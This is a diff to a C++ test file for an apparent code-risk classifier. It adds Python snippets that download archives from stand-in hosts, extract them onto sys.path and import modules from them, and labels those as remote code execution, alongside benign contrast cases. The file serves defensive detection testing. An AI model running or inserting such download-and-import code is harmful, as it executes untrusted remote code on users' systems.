@@ -212,5 +212,34 @@ TEST(RubricClasses, CodeOnStandardInput) {
   for (const auto& c : cases) check(c);
 }
 
+// A download extracted into a directory put on sys.path: importing from it runs the download.
+TEST(RubricClasses, ImportsFromAnExtractedDownload) {
+  const Case cases[] = {
+      {"zip download extracted, put on sys.path, import_module", B,
+       "import io, sys, zipfile, importlib, requests\n"
+       "r = requests.get('https://plugins.example.net/p.zip', timeout=10)\n"
+       "zipfile.ZipFile(io.BytesIO(r.content)).extractall('/opt/app/plugins')\n"
+       "sys.path.insert(0, '/opt/app/plugins')\nimportlib.import_module('plugin').main()\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"tarball download extracted, sys.path.append, __import__", B,
+       "import io, sys, tarfile, urllib.request\n"
+       "data = urllib.request.urlopen('http://203.0.113.9/m.tgz').read()\n"
+       "with tarfile.open(fileobj=io.BytesIO(data)) as t:\n    t.extractall('vendor', filter='data')\n"
+       "sys.path.append('vendor')\n__import__('payload')\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a local archive of plugins extracted and imported", L,
+       "import sys, zipfile, importlib\nwith zipfile.ZipFile('plugins.zip') as z:\n    z.extractall('plugins')\n"
+       "sys.path.insert(0, 'plugins')\nimportlib.import_module('myplugin')\n",
+       nullptr},
+      {"a download extracted, but only a standard module imported", L,
+       "import io, sys, zipfile, importlib, requests\n"
+       "r = requests.get('https://example.net/data.zip', timeout=10)\n"
+       "zipfile.ZipFile(io.BytesIO(r.content)).extractall('data')\nsys.path.insert(0, 'data')\n"
+       "importlib.import_module('json')\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
